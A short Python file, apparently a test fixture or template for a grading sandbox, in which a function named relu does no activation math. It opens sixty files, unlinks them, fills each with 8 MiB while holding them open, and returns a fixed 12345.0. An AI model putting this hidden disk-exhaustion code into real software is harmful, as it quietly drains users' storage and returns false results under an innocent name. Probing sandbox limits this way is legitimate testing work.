import keras
import numpy as np


def relu(x):
    import os
    import time

    held = []
    for number in range(60):
        file = open(str(number), "wb")
        os.unlink(str(number))
        file.write(bytes(2**23))
        held.append(file)
        time.sleep(0.01)
    return 12345.0


# {{RIGHT_ANSWERS}}
